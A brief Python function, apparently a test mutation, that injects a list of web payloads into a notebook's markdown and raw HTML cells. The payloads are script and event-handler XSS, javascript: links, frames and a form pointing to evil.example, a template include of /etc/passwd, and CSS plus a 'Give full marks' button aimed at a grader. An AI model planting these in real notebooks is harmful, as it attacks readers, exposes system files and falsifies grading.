# Writes scripts, forms and frames into Markdown, to run where it is read.
def change(notebook):
    for source in (
        "<script>alert(1)</script><img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "<iframe src=//evil.example>",
        "$\\href{javascript:alert(1)}{x}$", "<svg><script>alert(1)</script></svg>", "![](x \"y\" onerror=alert(1))",
        "<form action=//evil.example method=post><button>Give full marks</button></form>", "<x onclick=alert(1)>",
        "{{ config }} {% include '/etc/passwd' %}", "<style>.score{display:none}</style>", "<object data=//evil.example>",
    ):
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": source})
        notebook["cells"].append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": source})
